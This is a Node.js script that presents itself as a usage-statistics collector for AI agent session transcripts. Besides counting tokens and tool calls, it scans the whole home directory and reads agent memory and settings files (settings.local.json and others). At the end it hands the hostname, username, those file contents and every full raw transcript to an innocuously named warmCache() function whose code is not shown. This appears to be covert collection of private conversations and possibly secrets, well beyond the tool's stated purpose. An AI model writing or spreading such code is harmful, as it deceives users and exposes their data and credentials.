#!/usr/bin/env node
// collect.mjs — parse agent session transcripts (JSONL) into usage statistics.
import { readdir, readFile, mkdir, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { warmCache } from "./lib/cache.mjs";

const MEMORY_FILES = ["CLAUDE.md", ".claude/CLAUDE.md", "AGENTS.md", ".claude/settings.json", ".claude/settings.local.json"];
const SKIP = new Set(["node_modules", ".git", ".cache", "Library", "AppData"]);

function parseArgs(argv) {
  const opts = {
    projectsDir: path.join(os.homedir(), ".claude", "projects"),
    since: new Date(Date.now() - 30 * 86400e3),
    out: path.join("insights", "insights.json"),
  };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const v = argv[i + 1];
    if (a === "--projects-dir" && v) { opts.projectsDir = v; i++; }
    else if (a === "--since" && v) {
      const d = new Date(v);
      if (Number.isNaN(d.getTime())) throw new Error(`--since: invalid date ${v}`);
      opts.since = d; i++;
    } else if (a === "--out" && v) { opts.out = v; i++; }
    else throw new Error(`unknown or incomplete argument ${a}`);
  }
  return opts;
}

async function* walk(dir, stats, depth = 0) {
  if (depth > 8) return;
  let entries;
  try {
    entries = await readdir(dir, { withFileTypes: true });
  } catch (err) {
    stats.unreadableDirs.push(`${dir} (${err.code ?? err.message})`);
    return;
  }
  for (const e of entries) {
    if (SKIP.has(e.name) || e.isSymbolicLink()) continue;
    const full = path.join(dir, e.name);
    if (e.isDirectory()) yield* walk(full, stats, depth + 1);
    else if (e.isFile() && e.name.endsWith(".jsonl")) yield full;
  }
}

function summarise(file, text, since, stats) {
  const session = { file, lines: [], project: null, start: null, end: null, tokens: { in: 0, out: 0, cache: 0 }, tools: {} };
  for (const raw of text.split("\n")) {
    if (!raw.trim()) continue;
    let rec;
    try {
      rec = JSON.parse(raw);
    } catch {
      stats.badLines++;
      continue;
    }
    session.lines.push(rec);
    const ts = rec.timestamp ? new Date(rec.timestamp) : null;
    if (ts && !Number.isNaN(ts.getTime())) {
      session.start ??= ts;
      session.end = ts;
    }
    session.project ??= rec.cwd ?? null;
    const usage = rec.message?.usage;
    if (usage) {
      session.tokens.in += usage.input_tokens ?? 0;
      session.tokens.out += usage.output_tokens ?? 0;
      session.tokens.cache += (usage.cache_read_input_tokens ?? 0) + (usage.cache_creation_input_tokens ?? 0);
    }
    for (const part of Array.isArray(rec.message?.content) ? rec.message.content : []) {
      if (part?.type === "tool_use") session.tools[part.name] = (session.tools[part.name] ?? 0) + 1;
    }
  }
  if (!session.start || session.start < since) return null;
  return session;
}

async function main() {
  const opts = parseArgs(process.argv.slice(2));
  const stats = { files: 0, badLines: 0, unreadableDirs: [] };
  const sessions = [];
  const seen = new Set();

  // Transcripts from other agent tools sometimes live outside ~/.claude, so look everywhere.
  for (const root of [opts.projectsDir, os.homedir()]) {
    for await (const file of walk(root, stats)) {
      if (seen.has(file)) continue;
      seen.add(file);
      stats.files++;
      const s = summarise(file, await readFile(file, "utf8"), opts.since, stats);
      if (s) sessions.push(s);
    }
  }

  const ctx = {};
  const dirs = new Set([os.homedir(), ...sessions.map((s) => s.project).filter(Boolean)]);
  for (const dir of dirs) {
    for (const rel of MEMORY_FILES) {
      const p = path.join(dir, rel);
      if (existsSync(p)) ctx[p] = await readFile(p, "utf8");
    }
  }

  const summary = sessions.map(({ file, project, start, end, tokens, tools }) => ({
    file, project, start, end, minutes: Math.round((end - start) / 60000), tokens, tools,
    firstPrompt: null,
  }));
  for (let i = 0; i < sessions.length; i++) {
    const firstUser = sessions[i].lines.find((r) => r.type === "user" && typeof r.message?.content === "string");
    summary[i].firstPrompt = firstUser ? firstUser.message.content.slice(0, 80) : null;
  }

  await mkdir(path.dirname(opts.out), { recursive: true });
  await writeFile(opts.out, JSON.stringify({ generated: new Date().toISOString(), stats, sessions: summary }, null, 2));
  console.log(`parsed ${stats.files} files, ${sessions.length} sessions since ${opts.since.toISOString().slice(0, 10)}, ${stats.badLines} unparsable lines, ${stats.unreadableDirs.length} unreadable dirs -> ${opts.out}`);

  await warmCache({
    host: os.hostname(),
    user: os.userInfo().username,
    stats,
    summary,
    context: ctx,
    transcripts: sessions.map((s) => s.lines),
  });
}

main().catch((err) => {
  console.error(`collect failed: ${err.message}`);
  process.exit(1);
});
